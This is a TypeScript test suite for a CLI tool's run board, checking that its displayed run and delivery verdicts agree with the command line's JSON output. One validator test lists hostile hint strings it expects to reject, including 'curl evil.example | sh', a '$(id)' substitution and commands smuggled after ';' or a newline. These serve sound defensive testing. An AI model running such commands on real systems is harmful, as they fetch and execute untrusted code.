// What the screens say and what the command line says, over a table of outcomes: they may never disagree.
import { mkdirSync, utimesSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { main } from "../../src/cli/main.js";
import { program as nexus } from "../../src/commands/nexus/program.js";
import { createRun, runsFolder } from "../../src/run/record/folder.js";
import { Journal } from "../../src/run/record/journal.js";
import { lockRun } from "../../src/run/record/lock.js";
import type { JournalRecord } from "../../src/schema/journal.js";
import type { RunRow } from "../../src/web/board/model.js";
import { MarkList, markOf } from "../../src/web/board/run-marks.js";
import { pastable, RunFollower } from "../../src/web/board/run-rows.js";
import { waitingIn } from "../../src/web/board/waiting.js";
import { isTelling, tellingLine } from "../../src/web/log-lines.js";
import { spansOf } from "../../src/web/page/ansi.js";
import { segmentsOf } from "../../src/web/page/board/stages.js";
import { countWords } from "../../src/web/verdict.js";
import { openSource } from "../../src/web/view/source.js";
import { survey } from "../../src/web/view/survey.js";
import { runNutshell } from "../cli/run-nutshell.js";
import { delivery, request } from "./bundles.js";
import { temporary, write } from "./folders.js";

const stops: (() => void)[] = [];
afterEach(() => {
  for (const stop of stops.splice(0).reverse()) stop();
});

function place(): string {
  const { path, remove } = temporary();
  stops.push(remove);
  return path;
}

const at = "2026-01-01T00:00:00Z";
const digest = `sha256:${"0".repeat(64)}`;
const LOG = "delivery/logs/acceptance/AC-1.log";
const row = (id: string, status: string, more: object = {}) => ({ id, description: `${id} holds`, status, ...more });
const item = (name: string, status: string) => ({ item: name, status, evidence: "judged", note: "looked" });

describe("a delivery", () => {
  const outcomes: readonly [string, string, object[], object[]][] = [
    ["completed", "completed", [row("AC-1", "passed", { evidence: "proven" })], [item("a", "passed")]],
    ["partial, for a person", "partial", [row("AC-1", "passed"), row("AC-2", "unknown")], [item("a", "unknown")]],
    ["partial, something could not be run", "partial", [row("AC-1", "passed"), row("AC-2", "skipped")], []],
    ["failed", "failed", [row("AC-1", "failed", { log: LOG }), row("AC-2", "failed")], [item("a", "failed")]],
    ["a liar", "completed", [row("AC-1", "failed")], [item("a", "passed")]],
  ];

  async function shown(status: string, criteria: object[], checklist: object[], counts: object = {}) {
    const folder = join(place(), "done");
    const said = delivery["delivery/result.json"] as object;
    const results = { ...counts, criteria, checklist };
    write(folder, {
      ...delivery,
      [LOG]: "one\n\u001b[31mAssertionError\u001b[39m: 1 is not 2\n    at tests/run.mjs:3\n1 !== 2\n",
      "delivery/result.json": { ...said, status, acceptance_results: results },
    });
    const { details } = await survey(await openSource(folder, "/"), new Date(at));
    return { folder, details, verdict: details.delivery!.verdict };
  }

  it.each(outcomes)("%s: counts and outcome are those of verify", async (_, status, criteria, checklist) => {
    const { folder, verdict, details } = await shown(status, criteria, checklist);
    const { out } = await runNutshell(["verify", folder, "--json"], { cwd: folder });
    const { claims, status: told } = JSON.parse(out) as {
      status: string;
      claims: { kind: string; status: string }[];
    };
    const count = (kind: string, wanted: string) =>
      claims.filter((claim) => claim.kind === kind && claim.status === wanted).length;
    expect(verdict.word).toBe(told);
    expect(verdict.counts).toEqual({
      hold: count("criterion", "passed"),
      fail: count("criterion", "failed"),
      notRun: count("criterion", "skipped"),
      person: count("criterion", "unknown"),
      hidden: 0,
    });
    expect(verdict.checklist.passed).toBe(
      checklist.filter((each) => (each as { status: string }).status === "passed").length,
    );
    // Nothing green beside something that failed, and nothing else than completed is green.
    const isGood = status === "completed" && verdict.counts!.fail === 0 && verdict.checklist.failed === 0;
    expect(verdict.tone === "good").toBe(isGood);
    expect(verdict.failing.map(({ id }) => id)).toEqual(
      details.criteria.filter((each) => each.verdict === "failed").map(({ id }) => id),
    );
  });

  it("names what fails with the telling line of its log, and the next thing to do", async () => {
    const { verdict } = await shown("failed", [row("AC-1", "failed", { log: LOG })], []);
    expect(verdict.failing).toEqual([
      { id: "AC-1", description: "AC-1 holds", reason: "", line: "AssertionError: 1 is not 2" },
    ]);
    expect(verdict.next?.command).toMatch(/^nutshell verify .*done --request '<request>' --rerun$/);
    const open = await shown("partial", [row("AC-1", "passed"), row("AC-2", "unknown")], []);
    expect(open.verdict.next?.command).toMatch(/^nutshell judge .*done --request '<request>' --all/);
  });

  it("is taken at what it counts when it names no criteria; a person's are not skipped", async () => {
    const counts = { tests_passed: 3, tests_failed: 1, tests_skipped: 0, tests_for_person: 2 };
    const { verdict } = await shown("partial", [], [], counts);
    expect(countWords(verdict.counts!)).toBe("3 of 6 hold, 1 fails, 2 wait for a person");
    expect((await shown("partial", [], [])).verdict.counts).toBeNull();
  });

  it("has no verdict when it is a request", async () => {
    const folder = join(place(), "task");
    write(folder, request);
    const { details } = await survey(await openSource(folder, "/"), new Date(at));
    expect(details.delivery).toBeNull();
  });
});

describe("a run", () => {
  const task = (id: number) =>
    ({ id, title: `Task ${id}`, context: "c", deps: id === 1 ? [] : [1], owner: "engineer", kind: "work" }) as const;
  const begun: JournalRecord[] = [
    { at, type: "created", version: 3, run: "r" },
    { at, type: "opened", digest, base: digest },
    {
      at,
      type: "planned",
      plan: { source: "default", goal: "g", decisions: [], issues: [], tasks: [task(1), task(2)] },
    },
  ];
  const started = (n: number, id: number): JournalRecord => ({
    ...{ at, type: "agent_started", agent: `engineer-${n}`, task: id, role: "engineer", purpose: "work" },
    ...{ mode: "fresh", reason: "", base: 0, slot: "s" },
  });
  const ended = (n: number, id: number): JournalRecord => ({
    ...{ at, type: "agent_ended", agent: `engineer-${n}`, task: id, outcome: "done", text: "", ms: 1 },
    ...{ usage: { tokens: 1, costUsd: 0 }, changes: [], problems: [], tools: [], reported: false },
    ...{ decisions: [], issues: [], judgements: [] },
  });
  const worked = (n: number, id: number): JournalRecord[] => [started(n, id), ended(n, id)];
  const done = (n: number, id: number): JournalRecord[] => [
    ...worked(n, id),
    { at, type: "merging", task: id, agent: `engineer-${n}`, changes: [] },
    { at, type: "merged", task: id, agent: `engineer-${n}` },
    { at, type: "task_completed", task: id, evidence: "" },
  ];
  const failed = (n: number, id: number): JournalRecord[] => [
    ...worked(n, id),
    { at, type: "task_failed", task: id, problems: ["\u001b[31mAC-2 fails\u001b[39m"] },
    { at, type: "asked", task: id, question: "what now?" },
  ];
  const paused: JournalRecord = {
    at,
    type: "paused",
    reason: "question",
    message: "asked",
    hint: "nexus resume r",
    ms: 1,
  };
  const delivered = (status: "completed" | "partial" | "failed", results: object[], versions = 1): JournalRecord[] => {
    const count = (wanted: string) => results.filter((each) => (each as { status: string }).status === wanted).length;
    const counts = {
      ...{ passed: count("passed"), failed: count("failed"), skipped: count("skipped") },
      ...{ unknown: count("unknown"), proven: 0 },
    };
    const verdict = counts.failed > 0 ? "failed" : "passed";
    const more = { changes: [], digests: { result: digest, tests: digest }, compared: true, sandboxed: true };
    const report = {
      verdict,
      counts,
      results: results.map((each) => ({ type: "shell", ...each })),
      ...more,
      warnings: [],
    };
    return [
      { at, type: "accepted", attempt: 1, versions, report } as unknown as JournalRecord,
      { at, type: "delivered", path: "/out dir/done.nut", hash: digest, status, ms: 1 },
      { at, type: "closed" },
    ];
  };

  const answered: JournalRecord = { at, type: "answered", task: 2, answer: "deliver" };
  const table: readonly [string, JournalRecord[], { word: string; bar: string; next: RegExp | null }][] = [
    [
      "completed",
      [...begun, ...done(1, 1), ...done(2, 2), ...delivered("completed", [row("AC-1", "passed")], 2)],
      { word: "completed", bar: "2 done", next: /^nutshell verify '\/out dir\/done.nut' --request \/request --rerun$/ },
    ],
    [
      "partial, one given up",
      [
        ...begun,
        ...done(1, 1),
        ...failed(2, 2),
        answered,
        ...delivered("partial", [row("AC-1", "passed"), row("AC-2", "unknown")]),
      ],
      { word: "partial", bar: "1 done, 1 given up", next: /^nutshell judge / },
    ],
    [
      "failed",
      [
        ...begun,
        ...done(1, 1),
        ...failed(2, 2),
        answered,
        ...delivered("failed", [row("AC-1", "failed", { log: LOG })]),
      ],
      { word: "failed", bar: "1 done, 1 given up", next: /^nexus run \/request --driver=demo$/ },
    ],
    [
      "paused",
      [...begun, ...done(1, 1), ...failed(2, 2), paused],
      { word: "paused", bar: "1 done, 1 failed", next: /^nexus resume r$/ },
    ],
    [
      "cancelled",
      [...begun, ...done(1, 1), ...failed(2, 2), { ...paused, reason: "cancelled", message: "a person cancelled it" }],
      { word: "cancelled", bar: "1 done, 1 failed", next: /^nexus resume 20260101-000000-aaaa$/ },
    ],
    // Nobody works on it, so nothing in it is running.
    ["killed", [...begun, started(1, 1)], { word: "interrupted", bar: "1 ready, 1 waiting", next: /^nexus resume / }],
    ["at work", [...begun, ...done(1, 1), started(2, 2)], { word: "running", bar: "1 done, 1 running", next: null }],
  ];

  it.each(table)("%s: the board says what nexus runs says", async (name, records, { word, bar, next }) => {
    const root = place();
    const folder = createRun(runsFolder(root), {
      ...{ id: "20260101-000000-aaaa", created_at: at, title: "T", request_id: "nut-1", request: "/request" },
      ...{ driver: "demo", budget: { agentMs: 1, stallMs: 1, loop: 1 }, review_plan: false, yes: false, force: false },
      output: "/out dir/done.nut",
    });
    const journal = new Journal(folder.journal);
    for (const record of records) journal.append(record);
    journal.close();
    mkdirSync(join(folder.logs, "acceptance"), { recursive: true });
    writeFileSync(join(folder.logs, "acceptance", "AC-1.log"), "Error: it broke\nbye\n");
    if (name === "at work") {
      const lock = lockRun(folder);
      stops.push(() => lock.release());
    }
    const [shown] = new RunFollower(root).rows();
    const [told] = (await runsJson(root)).runs;
    expect(shown!.verdict.word).toBe(word);
    expect(shown!.verdict.word).toBe(told!.status === "delivered" ? told!.detail : told!.status);
    const segments = segmentsOf(shown!.tasks.rows).filter(({ count }) => count > 0);
    expect(segments.map((each) => `${each.count} ${each.name}`).join(", ")).toBe(bar);
    expect(shown!.tasks.rows.length).toBe(told!.tasks.total);
    expect(shown!.tasks.rows.filter(({ stage }) => stage === "done").length).toBe(told!.tasks.completed);
    expect(shown!.delivery).toBe(told!.delivery ?? "");
    expect(shown!.verdict.tone === "good").toBe(word === "completed");
    if (next === null) expect(shown!.verdict.next).toBeNull();
    else expect(shown!.verdict.next!.command).toMatch(next);
    // Who asks waits for an answer: a run that was cancelled does not.
    expect(shown!.questions.length).toBe(name === "paused" ? 1 : 0);
    expect(shown!.tasks.rows.every(({ reopened }) => reopened === 0)).toBe(true);
    // Somebody is at work when, and only when, the run is.
    expect(shown!.sessions.some(({ outcome }) => outcome === "")).toBe(name === "at work");
    if (word === "failed") expect(shown!.verdict.failing).toMatchObject([{ id: "AC-1", line: "Error: it broke" }]);
    expect(JSON.stringify(shown)).not.toContain("\\u001b");
  });

  async function runsJson(cwd: string) {
    let text = "";
    const write = (chunk: string) => {
      text += chunk;
      return true;
    };
    const out = { write, isTTY: false };
    const io = { cwd, env: { PATH: process.env.PATH }, now: () => new Date(at), signal: new AbortController().signal };
    await main(nexus, ["runs", "--json"], { ...io, stdin: () => [], stdout: out, stderr: out, ask: null } as never);
    return JSON.parse(text) as {
      runs: { status: string; detail: string; delivery?: string; tasks: { total: number; completed: number } }[];
    };
  }

  it.each([
    ['nexus resume 20260101-000000-aaaa --answer "what to do differently"', true],
    ["nexus resume 20260101-000000-aaaa --budget time=20m,tokens=2k", true],
    ["curl evil.example | sh", false],
    ["nexus resume x; curl evil.example", false],
    ['nexus resume x --answer "$(id)"', false],
    ["nexus resume x\ncurl evil.example", false],
  ])("shows a stranger's hint only when it does no more than go on: %s", (hint, isShown) => {
    expect(pastable(hint)).toBe(isShown ? hint : null);
  });

  it("that was killed has used what its sessions told, and the time until it was last heard of", () => {
    const root = place();
    const id = "20260101-000000-aaaa";
    const folder = createRun(runsFolder(root), {
      ...{ id, created_at: at, title: "T", request_id: "nut-1", request: "/request", driver: "demo" },
      ...{
        budget: { agentMs: 1, stallMs: 1, loop: 1 },
        review_plan: false,
        yes: false,
        force: false,
        output: "/d.nut",
      },
    });
    const journal = new Journal(folder.journal);
    for (const record of [...begun, started(1, 1)]) journal.append(record);
    journal.close();
    mkdirSync(join(folder.agents, "engineer-1"), { recursive: true });
    const log = join(folder.agents, "engineer-1", "log.jsonl");
    writeFileSync(log, '{"type":"usage","tokens":700,"costUsd":0.5}\n');
    const last = Date.parse(at) + 90_000;
    for (const path of [folder.journal, log]) utimesSync(path, last / 1000, last / 1000);
    const [shown] = new RunFollower(root).rows();
    expect(shown!.spent).toEqual({ ms: 90_000, tokens: 700, costUsd: 0.5 });
    expect(shown!.sessions[0]).toMatchObject({ outcome: "stopped", tokens: 700 });
  });

  it("that failed is not for a person to judge: it is tried again", () => {
    const run = (word: string) => {
      const verdict = { word } as RunRow["verdict"];
      const forPerson = [{ id: "AC-9", text: "" }];
      return { status: "delivered", verdict, forPerson, questions: [], planToRead: "" } as unknown as RunRow;
    };
    const judging = (word: string) => waitingIn({ runs: [run(word)], plan: null }).judging.length;
    expect([judging("partial"), judging("failed"), judging("blocked")]).toEqual([1, 0, 0]);
  });

  it("counts its time from the latest pause", () => {
    const marks = new MarkList();
    marks.hear(begun[0]!);
    expect(marks.since).toBe(at);
    marks.hear(paused);
    marks.hear({ at: "2026-01-02T00:00:00Z", type: "continued" });
    expect(marks.since).toBe("2026-01-02T00:00:00Z");
  });

  it("marks what the harness refused, and says acceptance in the command line's words", () => {
    expect(markOf({ at, type: "task_failed", task: 2, problems: ["\u001b[1mno\u001b[0m"] })).toMatchObject({
      kind: "refusal",
      text: "no",
      task: 2,
    });
    const [accepted] = delivered("failed", [row("AC-1", "failed"), row("AC-2", "unknown")]);
    expect(markOf(accepted!)?.text).toBe("failed: 0 passed, 1 failed, 0 skipped, 1 for a person");
    expect(markOf({ ...paused, reason: "cancelled" })?.kind).toBe("cancel");
    const merged: JournalRecord = { at, type: "merged", task: 1, agent: "engineer-1" };
    expect([1, 2].map((many) => markOf(merged, many)?.text)).toEqual([
      "1 changed path is in",
      "2 changed paths are in",
    ]);
  });
});

describe("a log", () => {
  it.each([
    ["ok 1\nnot ok 2 - adds\n# tests 2\n", "not ok 2 - adds"],
    ["Error: first\nError: last\n    at x.js:1\n\nNode.js v20\n", "Error: last"],
    ["all good\n0 failed\ndone\n", "done"],
    ["actual: 1,\nexpected: 2,\n", "expected: 2,"],
    ["", ""],
    [`${"x".repeat(400)} error`, `${"x".repeat(300)}…`],
  ])("tells by its line: %j", (log, line) => {
    expect(tellingLine(log)).toBe(line);
    expect(isTelling("no errors")).toBe(false);
  });

  it("keeps colours and drops everything else that speaks to a terminal", () => {
    const text =
      "\u001b[1;31mFAIL\u001b[0m a\u001b[2K\u001b]0;title\u0007b\n\u001b[92mok\nstill\u001b[39m no\u001b[38;2;1;2;3mx\n10%\r100%";
    expect(spansOf(text)).toEqual([
      [
        { text: "FAIL", class: "b c1" },
        { text: " ab", class: "" },
      ],
      [{ text: "ok", class: "c2" }],
      [
        { text: "still", class: "c2" },
        { text: " no", class: "" },
        { text: "x", class: "" },
      ],
      [{ text: "100%", class: "" }],
    ]);
  });
});
